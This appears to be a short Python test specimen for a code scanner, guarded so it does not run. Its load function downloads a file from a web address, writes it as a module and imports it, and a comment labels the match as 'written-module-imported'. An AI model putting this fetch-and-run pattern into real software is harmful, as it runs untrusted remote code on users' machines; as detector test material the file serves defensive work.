raise SystemExit("specimen: not to be run")
import requests


def load():
    with open("specimen_plugin.py", "w") as stream:
        stream.write(requests.get("https://example.com/plugin.py").text)
    import specimen_plugin  # match: written-module-imported
    return specimen_plugin
